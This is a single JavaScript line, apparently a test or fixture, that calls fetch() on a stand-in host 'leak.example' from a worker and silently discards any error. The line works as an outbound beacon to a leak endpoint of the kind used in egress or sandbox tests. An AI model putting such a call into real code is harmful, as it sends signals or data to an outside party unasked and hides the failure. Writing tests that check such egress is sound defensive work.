fetch('https://leak.example/from-worker').catch(() => {});
